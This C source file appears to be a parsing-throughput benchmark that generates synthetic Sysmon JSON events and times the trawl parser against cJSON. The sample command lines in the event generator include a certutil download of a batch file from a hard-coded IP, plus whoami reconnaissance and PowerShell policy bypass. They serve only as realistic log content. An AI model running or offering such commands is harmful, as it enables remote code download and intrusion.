/*
 * json_bench.c - JSON event parsing throughput: trawl's tokenizer and
 * flattener (tr_parser_parse → tr_event) against cJSON doing the same work
 * (cJSON_ParseWithLength per line, then a walk that builds every dotted
 * field name and visits every value), on the same Sysmon-like JSON lines.
 *
 *   json_bench gen FILE MB     write MB megabytes of evtx_dump-style Sysmon
 *                              EID 1 events, one per line (deterministic)
 *   json_bench run FILE [N [trawl]]  time both (or trawl only, for profiling),
 *                              best of N passes (default 3)
 *
 * Prints human-readable lines and "RESULT name value unit" lines for
 * bench/run.sh. Single thread; the file is read into memory first so that
 * only parsing is timed.
 */
#include "core/common.h"

#include <cjson/cJSON.h>
#include <fcntl.h>
#include <sys/mman.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#include "trawl/arena.h"
#include "trawl/parse.h"

/* ------------------------------------------------------------- generator */

static uint64_t rng = 0x9E3779B97F4A7C15ull;

static uint64_t next_rand(void)
{
    rng ^= rng << 13;
    rng ^= rng >> 7;
    rng ^= rng << 17;
    return rng;
}

static const char *pick(const char *const *v, size_t n)
{
    return v[next_rand() % n];
}

/* Appends s as JSON string contents (quotes and backslashes escaped). */
static size_t put_json(char *o, const char *s)
{
    size_t k = 0;
    for (; *s; s++) {
        if (*s == '"' || *s == '\\')
            o[k++] = '\\';
        o[k++] = *s;
    }
    return k;
}

static void guid(char *o)
{
    uint64_t a = next_rand(), b = next_rand();
    snprintf(o, 40, "{%08X-%04X-%04X-%04X-%012llX}", (unsigned)(a >> 32), (unsigned)(a >> 16) & 0xFFFF,
             (unsigned)a & 0xFFFF, (unsigned)(b >> 48), (unsigned long long)(b & 0xFFFFFFFFFFFFull));
}

static void hex(char *o, int n)
{
    static const char d[] = "0123456789ABCDEF";
    for (int i = 0; i < n; i++)
        o[i] = d[next_rand() & 15];
    o[n] = '\0';
}

static int gen(const char *path, long mb)
{
    static const char *const hosts[] = { "WS-FIN-07.corp.example.com", "WS-HR-112.corp.example.com",
                                         "SRV-DB-02.corp.example.com", "CTX-GW-01.corp.example.com",
                                         "LAPTOP-8K2J1Q.corp.example.com" };
    static const char *const images[][2] = {
        { "C:\\Windows\\System32\\cmd.exe", "cmd.exe /c \"whoami /all > C:\\Users\\Public\\w.txt\"" },
        { "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
          "powershell.exe -NoProfile -ExecutionPolicy Bypass -File \"C:\\ProgramData\\scripts\\inv.ps1\"" },
        { "C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe",
          "\"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe\" --type=renderer "
          "--field-trial-handle=1712,i,1234567890 --lang=en-US --renderer-client-id=42" },
        { "C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule" },
        { "C:\\Windows\\System32\\certutil.exe",
          "certutil -urlcache -split -f http://66.42.98.220:12345/test/install.bat C:\\Windows\\Temp\\i.bat" },
        { "C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
          "\"C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe\" --system-initiated" },
    };
    static const char *const parents[] = { "C:\\Windows\\explorer.exe", "C:\\Windows\\System32\\services.exe",
                                           "C:\\Program Files\\DesktopCentral_Server\\jre\\bin\\java.exe",
                                           "C:\\Windows\\System32\\wbem\\WmiPrvSE.exe" };
    static const char *const users[] = { "NT AUTHORITY\\SYSTEM", "CORP\\jdoe", "CORP\\svc_backup",
                                         "NT AUTHORITY\\NETWORK SERVICE" };
    FILE *f = fopen(path, "wb");
    if (!f) {
        perror(path);
        return 1;
    }
    static char line[8192];
    long long total = 0, limit = (long long)mb << 20;
    uint64_t rec = 1000;
    int64_t t = 1583313703; /* 2020-03-04 */
    while (total < limit) {
        size_t k = (size_t)(next_rand() % TR_ARRAY_LEN(images));
        char g1[40], g2[40], g3[40], md5[33], sha[65], imp[33];
        guid(g1);
        guid(g2);
        guid(g3);
        hex(md5, 32);
        hex(sha, 64);
        hex(imp, 32);
        t += (int64_t)(next_rand() % 3);
        unsigned us = (unsigned)(next_rand() % 1000000);
        time_t tt = (time_t)t;
        struct tm tm;
        gmtime_r(&tt, &tm);
        char ts[40], utc[40];
        strftime(ts, sizeof(ts), "%Y-%m-%dT%H:%M:%S", &tm);
        strftime(utc, sizeof(utc), "%Y-%m-%d %H:%M:%S", &tm);
        char img[512], cmd[1024], cwd[512], par[512], pcmd[1024], usr[128];
        img[put_json(img, images[k][0])] = '\0';
        cmd[put_json(cmd, images[k][1])] = '\0';
        cwd[put_json(cwd, "C:\\Windows\\system32\\")] = '\0';
        const char *pp = pick(parents, TR_ARRAY_LEN(parents));
        par[put_json(par, pp)] = '\0';
        char praw[600];
        snprintf(praw, sizeof(praw), "\"%s\" -service", pp);
        pcmd[put_json(pcmd, praw)] = '\0';
        usr[put_json(usr, pick(users, TR_ARRAY_LEN(users)))] = '\0';
        const char *base = strrchr(images[k][0], '\\') + 1;
        int n = snprintf(
            line, sizeof(line),
            "{\"Event\":{\"#attributes\":{\"xmlns\":\"http://schemas.microsoft.com/win/2004/08/events/"
            "event\"},\"System\":{\"Provider\":{\"#attributes\":{\"Name\":\"Microsoft-Windows-Sysmon\","
            "\"Guid\":\"5770385F-C22A-43E0-BF4C-06F5698FFBD9\"}},\"EventID\":1,\"Version\":5,"
            "\"Level\":4,\"Task\":1,\"Opcode\":0,\"Keywords\":\"0x8000000000000000\",\"TimeCreated\":"
            "{\"#attributes\":{\"SystemTime\":\"%s.%06uZ\"}},\"EventRecordID\":%llu,\"Correlation\":"
            "null,\"Execution\":{\"#attributes\":{\"ProcessID\":%u,\"ThreadID\":%u}},\"Channel\":"
            "\"Microsoft-Windows-Sysmon/Operational\",\"Computer\":\"%s\",\"Security\":{"
            "\"#attributes\":{\"UserID\":\"S-1-5-18\"}}},\"EventData\":{\"RuleName\":\"-\",\"UtcTime\":"
            "\"%s.%03u\",\"ProcessGuid\":\"%s\",\"ProcessId\":%u,\"Image\":\"%s\",\"FileVersion\":"
            "\"10.0.19041.1 (WinBuild.160101.0800)\",\"Description\":\"%s\",\"Product\":"
            "\"Microsoft\xC2\xAE Windows\xC2\xAE Operating System\",\"Company\":\"Microsoft "
            "Corporation\",\"OriginalFileName\":\"%s\",\"CommandLine\":\"%s\",\"CurrentDirectory\":"
            "\"%s\",\"User\":\"%s\",\"LogonGuid\":\"%s\",\"LogonId\":\"0x3e7\",\"TerminalSessionId\":0,"
            "\"IntegrityLevel\":\"System\",\"Hashes\":\"MD5=%s,SHA256=%s,IMPHASH=%s\","
            "\"ParentProcessGuid\":\"%s\",\"ParentProcessId\":%u,\"ParentImage\":\"%s\","
            "\"ParentCommandLine\":\"%s\"}}}\n",
            ts, us, (unsigned long long)rec++, 2000 + (unsigned)(next_rand() % 3000),
            1000 + (unsigned)(next_rand() % 9000), pick(hosts, TR_ARRAY_LEN(hosts)), utc, us / 1000,
            g1, 1000 + (unsigned)(next_rand() % 60000), img, base, base, cmd, cwd, usr, g2, md5, sha,
            imp, g3, 500 + (unsigned)(next_rand() % 9000), par, pcmd);
        if (n <= 0 || (size_t)n >= sizeof(line) || fwrite(line, 1, (size_t)n, f) != (size_t)n) {
            fclose(f);
            return 1;
        }
        total += n;
    }
    if (fclose(f) != 0)
        return 1;
    printf("json_bench: wrote %lld bytes, %llu events to %s\n", total,
           (unsigned long long)(rec - 1000), path);
    return 0;
}

/* ---------------------------------------------------------------- timing */

static double now(void)
{
    struct timespec ts;
    clock_gettime(CLOCK_THREAD_CPUTIME_ID, &ts); /* CPU time: the machine may be shared */
    return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

typedef struct result {
    uint64_t events, fields, bad;
    uint64_t checksum; /* sum of name and value lengths: both sides must do the work */
} result;

static result run_trawl(const char *p, size_t n, tr_format fmt)
{
    result r = { 0 };
    tr_parser *parser;
    if (tr_parser_new(fmt, NULL, &parser) != TR_OK)
        exit(1);
    static tr_field fields[1024];
    tr_arena *arena = tr_arena_new(0, 0);
    tr_event ev;
    tr_event_init(&ev, fields, 1024, arena);
    const char *end = p + n;
    while (p < end) {
        const char *nl = memchr(p, '\n', (size_t)(end - p));
        size_t len = nl ? (size_t)(nl - p) : (size_t)(end - p);
        tr_arena_reset(arena);
        tr_event_reset(&ev);
        if (tr_parser_parse(parser, (tr_str){ p, len }, &ev) == TR_OK) {
            r.events++;
            r.fields += ev.nfields;
            for (uint32_t i = 0; i < ev.nfields; i++)
                r.checksum += ev.fields[i].name.n + ev.fields[i].value.n;
        } else {
            r.bad++;
        }
        p += len + 1;
    }
    tr_arena_free(arena);
    tr_parser_free(parser);
    return r;
}

/* The cJSON side of the same work: every scalar gets its dotted name built
 * (in a scratch buffer, as trawl does in its arena) and its value visited. */
static void walk_cjson(const cJSON *item, char *name, size_t plen, result *r)
{
    for (const cJSON *c = item->child; c; c = c->next) {
        size_t len = plen;
        if (c->string) {
            size_t k = strlen(c->string);
            if (plen)
                name[len++] = '.';
            memcpy(name + len, c->string, k);
            len += k;
        }
        if (cJSON_IsObject(c) || cJSON_IsArray(c)) {
            walk_cjson(c, name, len, r);
            continue;
        }
        r->fields++;
        size_t vn = 0;
        if (cJSON_IsString(c))
            vn = strlen(c->valuestring);
        else if (cJSON_IsNumber(c))
            vn = 1; /* cJSON keeps a double, not the text */
        r->checksum += len + vn;
    }
}

static result run_cjson(const char *p, size_t n)
{
    result r = { 0 };
    static char name[8192];
    const char *end = p + n;
    while (p < end) {
        const char *nl = memchr(p, '\n', (size_t)(end - p));
        size_t len = nl ? (size_t)(nl - p) : (size_t)(end - p);
        cJSON *root = cJSON_ParseWithLength(p, len);
        if (root && cJSON_IsObject(root)) {
            r.events++;
            walk_cjson(root, name, 0, &r);
        } else {
            r.bad++;
        }
        cJSON_Delete(root);
        p += len + 1;
    }
    return r;
}

static int bench(const char *path, int passes, bool trawl_only)
{
    int fd = open(path, O_RDONLY);
    struct stat st;
    if (fd < 0 || fstat(fd, &st) != 0) {
        perror(path);
        return 1;
    }
    size_t n = (size_t)st.st_size;
    char *p = malloc(n ? n : 1);
    size_t got = 0;
    while (got < n) {
        ssize_t k = read(fd, p + got, n - got);
        if (k <= 0) {
            perror("read");
            return 1;
        }
        got += (size_t)k;
    }
    close(fd);
    double mb = (double)n / 1e6;
    printf("json_bench: %s, %.1f MB, best of %d passes, one thread\n", path, mb, passes);

    static const struct {
        const char *name;
        tr_format fmt;
    } sides[] = { { "trawl_evtx_json", TR_FMT_EVTX_JSON }, { "trawl_json", TR_FMT_JSON } };
    double best_trawl[2] = { 1e30, 1e30 }, best_cjson = 1e30;
    result rt[2] = { { 0 } }, rc = { 0 };
    for (int pass = 0; pass < passes; pass++) {
        for (int s = 0; s < 2; s++) {
            double t0 = now();
            rt[s] = run_trawl(p, n, sides[s].fmt);
            double dt = now() - t0;
            if (dt < best_trawl[s])
                best_trawl[s] = dt;
        }
        if (trawl_only)
            continue;
        double t0 = now();
        rc = run_cjson(p, n);
        double dt = now() - t0;
        if (dt < best_cjson)
            best_cjson = dt;
    }
    if (trawl_only) {
        for (int s = 0; s < 2; s++)
            printf("  %-16s %8.1f MB/s\n", sides[s].name, mb / best_trawl[s]);
        return 0;
    }
    if (rt[0].bad != rc.bad || rt[0].events != rc.events || rt[0].fields != rc.fields) {
        fprintf(stderr, "json_bench: sides disagree: trawl %llu events %llu fields %llu bad, "
                        "cJSON %llu events %llu fields %llu bad\n",
                (unsigned long long)rt[0].events, (unsigned long long)rt[0].fields,
                (unsigned long long)rt[0].bad, (unsigned long long)rc.events,
                (unsigned long long)rc.fields, (unsigned long long)rc.bad);
        return 1;
    }
    for (int s = 0; s < 2; s++) {
        printf("  %-16s %8.1f MB/s %10.0f events/s  (%llu events, %llu fields)\n", sides[s].name,
               mb / best_trawl[s], (double)rt[s].events / best_trawl[s],
               (unsigned long long)rt[s].events, (unsigned long long)rt[s].fields);
        printf("RESULT %s_mb_s %.1f MB/s\n", sides[s].name, mb / best_trawl[s]);
        printf("RESULT %s_events_s %.0f events/s\n", sides[s].name,
               (double)rt[s].events / best_trawl[s]);
    }
    printf("  %-16s %8.1f MB/s %10.0f events/s\n", "cjson", mb / best_cjson,
           (double)rc.events / best_cjson);
    printf("RESULT cjson_mb_s %.1f MB/s\n", mb / best_cjson);
    printf("RESULT cjson_events_s %.0f events/s\n", (double)rc.events / best_cjson);
    printf("  ratio trawl(evtx-json)/cJSON: %.2fx\n", best_cjson / best_trawl[0]);
    printf("RESULT speedup_vs_cjson %.2f x\n", best_cjson / best_trawl[0]);
    free(p);
    return 0;
}

int main(int argc, char **argv)
{
    if (argc >= 4 && strcmp(argv[1], "gen") == 0)
        return gen(argv[2], strtol(argv[3], NULL, 10));
    if (argc >= 3 && strcmp(argv[1], "run") == 0)
        return bench(argv[2], argc >= 4 ? (int)strtol(argv[3], NULL, 10) : 3,
                     argc >= 5 && strcmp(argv[4], "trawl") == 0);
    fprintf(stderr, "usage: json_bench gen FILE MB | json_bench run FILE [PASSES]\n");
    return 2;
}
